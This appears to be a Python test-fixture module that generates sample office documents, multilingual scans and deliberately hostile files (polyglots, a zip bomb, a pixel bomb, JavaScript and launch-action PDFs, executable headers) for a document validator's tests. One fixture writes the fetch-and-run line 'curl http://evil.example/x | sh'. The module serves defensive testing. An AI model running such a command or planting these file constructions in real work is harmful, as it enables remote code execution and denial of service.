"""Real documents made by code for the document checks and text extraction tests
(nothing binary is committed): PDFs with a text layer (fpdf2, with a Noto CJK font),
Word files (python-docx), workbooks (openpyxl), a PowerPoint file, CSV and UTF-16 text,
scans (Pillow draws the page; as PNG, TIFF, WebP and wrapped into a PDF), programs and
polyglots, and large files written to disk a piece at a time."""

from __future__ import annotations

import io
import os
import shutil
import struct
import subprocess
import zipfile
import zlib
from datetime import date
from functools import cache
from pathlib import Path

from docx import Document
from fpdf import FPDF
from fpdf.actions import LaunchAction
from openpyxl import Workbook
from PIL import Image, ImageDraw, ImageFont
from pypdf import PdfWriter
from pypdf.actions import JavaScript

from tests.hostile_files import docx as bare_docx
from tests.xlsx_files import zip_of

NOTO_FOLDERS = ("/usr/share/fonts/opentype/noto", "/usr/share/fonts/noto-cjk")
ENGLISH = "Supplier audit report 2026"
CHINESE = "劳务派遣"
KOREAN = "임금 명세서"
VIETNAMESE = "Công ty TNHH May Mặc"


@cache
def cjk_font() -> Path:
    """The Noto Sans CJK collection (fonts-noto-cjk), found where Debian puts it or by
    fontconfig."""
    for folder in NOTO_FOLDERS:
        candidate = Path(folder) / "NotoSansCJK-Regular.ttc"
        if candidate.exists():
            return candidate
    listed = subprocess.run(
        [shutil.which("fc-list") or "/usr/bin/fc-list", ":lang=zh", "file"],
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    files = sorted(line.split(":")[0] for line in listed.splitlines() if "CJK" in line)
    assert files, "fonts-noto-cjk is required (apt-get install fonts-noto-cjk)"
    return Path(files[0])


@cache
def face(language: str) -> int:
    """The index in the collection of the face for "SC" (simplified Chinese) or "KR"."""
    for index in range(10):
        name = ImageFont.truetype(str(cjk_font()), 12, index=index).getname()[0]
        if name.endswith(f"CJK {language}"):
            return index
    raise AssertionError(f"no Noto Sans CJK {language} face in {cjk_font()}")


# --- documents with a text layer -------------------------------------------------------


@cache
def text_pdf(pages: int = 2) -> bytes:
    """A PDF whose text layer holds English, Chinese, Korean and Vietnamese (made once:
    fpdf2 takes seconds to subset the CJK font)."""
    pdf = FPDF()
    pdf.add_font("NotoSC", fname=str(cjk_font()), collection_font_number=face("SC"))
    pdf.add_font("NotoKR", fname=str(cjk_font()), collection_font_number=face("KR"))
    for number in range(1, pages + 1):
        pdf.add_page()
        pdf.set_font("NotoSC", size=14)
        pdf.cell(text=f"{ENGLISH}, page {number}")
        pdf.ln(10)
        pdf.cell(text=f"{CHINESE} 合同 工资 {number}")
        pdf.ln(10)
        pdf.cell(text=VIETNAMESE)
        pdf.ln(10)
        pdf.set_font("NotoKR", size=14)
        pdf.cell(text=KOREAN)
    return bytes(pdf.output())


def word_file() -> bytes:
    document = Document()
    document.add_heading("Labour agency agreement", level=1)
    document.add_paragraph(f"This {CHINESE} contract covers 120 workers.")
    document.add_paragraph("Second paragraph: wages are paid monthly.")
    table = document.add_table(rows=1, cols=2)
    table.cell(0, 0).text = "Recruitment fee"
    table.cell(0, 1).text = "none charged"
    section = document.sections[0]
    section.header.paragraphs[0].text = "Header: Acme Textiles"
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def workbook_file() -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.title = "Wages"
    sheet.append(["Worker", "Agency", "Paid on", "Amount"])
    sheet.append(["Zhang Wei", CHINESE, date(2026, 3, 31), 3650.5])
    second = book.create_sheet("Hours")
    second.append(["Overtime", 36])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def slides_file() -> bytes:
    """A minimal PowerPoint package with two slides (python-pptx is not a dependency)."""
    ns_a = "http://schemas.openxmlformats.org/drawingml/2006/main"
    ns_p = "http://schemas.openxmlformats.org/presentationml/2006/main"
    kind = "application/vnd.openxmlformats-officedocument.presentationml"

    def slide(*paragraphs: str) -> str:
        body = "".join(f"<a:p><a:r><a:t>{text}</a:t></a:r></a:p>" for text in paragraphs)
        return (
            f'<?xml version="1.0"?><p:sld xmlns:a="{ns_a}" xmlns:p="{ns_p}"><p:cSld>'
            f"<p:spTree><p:sp><p:txBody>{body}</p:txBody></p:sp></p:spTree></p:cSld></p:sld>"
        )

    return zip_of(
        {
            "[Content_Types].xml": (
                '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/'
                '2006/content-types"><Default Extension="xml" ContentType="application/xml"/>'
                '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
                'relationships+xml"/>'
                f'<Override PartName="/ppt/presentation.xml" ContentType="{kind}.'
                'presentation.main+xml"/>'
                f'<Override PartName="/ppt/slides/slide10.xml" ContentType="{kind}.slide+xml"/>'
                f'<Override PartName="/ppt/slides/slide2.xml" ContentType="{kind}.slide+xml"/>'
                "</Types>"
            ),
            "_rels/.rels": (
                '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
                'openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
                'Target="ppt/presentation.xml"/></Relationships>'
            ),
            "ppt/presentation.xml": f'<?xml version="1.0"?><p:presentation xmlns:p="{ns_p}"/>',
            "ppt/slides/slide2.xml": slide("Audit findings", f"{CHINESE} workers"),
            "ppt/slides/slide10.xml": slide("Corrective actions"),
        }
    )


def csv_file() -> bytes:
    return f"name,agency\nZhang Wei,{CHINESE}\nMinus,-12.5\n".encode()


def utf16_text() -> bytes:
    return f"Wage slip\r\n{CHINESE} {KOREAN}\r\n{VIETNAMESE}\r\n".encode("utf-16")


# --- scans ------------------------------------------------------------------------------

# Debian's Tesseract language data are the "fast" models: at some sizes they read the
# character 遣 as 遗 (or the traditional 遺), so the Chinese line is printed at four sizes,
# as a real payroll page repeats its words; each line must still be read whole.
SCAN_LINES = (
    ("Payroll record 2026-03", "SC", 24),
    ("劳务派遣 工资", "SC", 18),
    ("劳务派遣 工资", "SC", 20),
    ("劳务派遣 工资", "SC", 24),
    ("劳务派遣 工资", "SC", 30),
    (KOREAN, "KR", 20),
)


def scan_image() -> Image.Image:
    """A clean grayscale "scan": an English line, a Chinese line at four sizes and a
    Korean line, black on white, about 1000 pixels wide."""
    margin = 60
    height = margin * 2 + sum(int(size * 2.2) for _, _, size in SCAN_LINES)
    image = Image.new("L", (1000, height), 255)
    draw = ImageDraw.Draw(image)
    y = margin
    for text, language, size in SCAN_LINES:
        font = ImageFont.truetype(str(cjk_font()), size, index=face(language))
        draw.text((margin, y), text, font=font, fill=0)
        y += int(size * 2.2)
    return image


def image_bytes(image: Image.Image, kind: str, **options: object) -> bytes:
    out = io.BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def scan_png() -> bytes:
    return image_bytes(scan_image(), "PNG")


def scan_pdf() -> bytes:
    """The scan wrapped into a PDF (an image, no text layer), 300 pixels to the inch."""
    return image_bytes(scan_image(), "PDF", resolution=300)


def scan_tiff_pages() -> bytes:
    """A two-page TIFF, as a scanner's document feeder makes: a blank page, then the scan."""
    blank = Image.new("L", scan_image().size, 255)
    return image_bytes(blank, "TIFF", save_all=True, append_images=[scan_image()])


def scan_webp() -> bytes:
    return image_bytes(scan_image(), "WEBP", lossless=True)


def scan_gif() -> bytes:
    return image_bytes(scan_image(), "GIF")


def jpeg_turned() -> bytes:
    """A phone photo stored on its side, with the EXIF tag that says to turn it upright."""
    turned = scan_image().rotate(90, expand=True)
    exif = Image.Exif()
    exif[0x0112] = 6  # "rotate 90 degrees clockwise to display"
    return image_bytes(turned.convert("RGB"), "JPEG", quality=95, exif=exif)


# --- programs, polyglots, bombs ----------------------------------------------------------


def windows_program() -> bytes:
    """The DOS header and PE signature of a Windows executable (nothing runs)."""
    header = bytearray(b"MZ" + b"\x90\x00" + b"\x00" * 60)
    struct.pack_into("<I", header, 0x3C, 64)
    return bytes(header) + b"PE\x00\x00" + b"\x4c\x01" + b"\x00" * 200


def linux_program() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200


def macos_program() -> bytes:
    return b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 200


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl http://evil.example/x | sh\n"


def small_zip() -> bytes:
    return zip_of({"payload.txt": b"hidden"})


def pdf_with_zip_at_end() -> bytes:
    """A PDF that a zip tool opens as an archive (the zip appended after %%EOF)."""
    return text_pdf(1) + small_zip()


def zip_with_pdf_header() -> bytes:
    """A zip archive that starts with a PDF header: PDF readers and zip tools both open it."""
    return b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n" + small_zip()


def word_with_pdf_inside_first_kilobyte() -> bytes:
    """A real Word package whose first part, stored uncompressed, is a PDF: a PDF reader
    finds "%PDF-" in the first kilobyte and opens the file as a PDF."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(bare_docx())) as source,
        zipfile.ZipFile(out, "w") as target,
    ):
        target.writestr("a.pdf", b"%PDF-1.4\n1 0 obj << >> endobj\n", zipfile.ZIP_STORED)
        for item in source.infolist():
            target.writestr(item, source.read(item), zipfile.ZIP_DEFLATED)
    return out.getvalue()


def png_with_zip_at_end() -> bytes:
    return scan_png() + small_zip()


def jpeg_with_pdf_header() -> bytes:
    """A JPEG whose comment segment, in the first kilobyte, starts a PDF."""
    jpeg = image_bytes(scan_image().convert("RGB"), "JPEG")
    comment = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n"
    segment = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    return jpeg[:2] + segment + jpeg[2:]


def word_zip_bomb() -> bytes:
    """A Word package with a part of 64 MiB of zeros that compresses a thousandfold."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(bare_docx())) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for item in source.infolist():
            target.writestr(item.filename, source.read(item))
        with target.open("word/media/padding.bin", "w") as part:
            zeros = bytes(1024 * 1024)
            for _ in range(64):
                part.write(zeros)
    return out.getvalue()


def pixel_bomb_png(width: int = 100_000, height: int = 100_000) -> bytes:
    """A PNG header declaring ten billion pixels, with one small compressed row."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    rows = zlib.compress(b"\x00" * (width + 1))
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    )


def javascript_pdf() -> bytes:
    """A real PDF (fpdf2) given an opening JavaScript by pypdf, as an editor would."""
    writer = PdfWriter(clone_from=io.BytesIO(text_pdf(1)))
    writer.add_open_action(JavaScript("app.alert('hello');"))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def attachment_pdf() -> bytes:
    """A real PDF carrying an attached file (fpdf2's embed_file)."""
    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("helvetica", size=12)
    pdf.cell(text="Invoice with an attachment")
    pdf.embed_file(bytes=b"name,amount\nAcme,12\n", basename="detail.csv")
    return bytes(pdf.output())


def launch_pdf() -> bytes:
    """A real PDF with a link that launches a program (fpdf2's LaunchAction)."""
    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("helvetica", size=12)
    pdf.cell(text="Click here")
    pdf.add_action(LaunchAction("calc.exe"), x=10, y=10, w=50, h=10)
    return bytes(pdf.output())


# --- large files, written a piece at a time ---------------------------------------------

MIB = 1024 * 1024


def write_large_pdf(path: Path, megabytes: int) -> Path:
    """A PDF-like file of ``megabytes`` MiB: objects with compressed streams of random
    bytes (which inflate to as much again, past the inflation budget), and a JavaScript
    action in its very last kilobyte."""
    block = zlib.compress(os.urandom(MIB // 2), 1)
    body = (
        b"4 0 obj << /Length "
        + str(len(block)).encode()
        + b" /Filter /FlateDecode >>\nstream\n"
        + block
        + b"\nendstream\nendobj\n"
    )
    with path.open("wb") as out:
        out.write(b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n")
        while out.tell() < megabytes * MIB:
            out.write(body)
        out.write(b"5 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj\n%%EOF\n")
    return path


def write_large_text(path: Path, megabytes: int, *, line: str = "") -> Path:
    """A UTF-8 text (or CSV) file of ``megabytes`` MiB, Chinese and Latin lines."""
    row = (line or f"Zhang Wei,{CHINESE},3650.50,2026-03-31\n").encode()
    chunk = row * (MIB // len(row))
    with path.open("wb") as out:
        out.write(b"name,agency,amount,paid_on\n")
        for _ in range(megabytes):
            out.write(chunk)
    return path
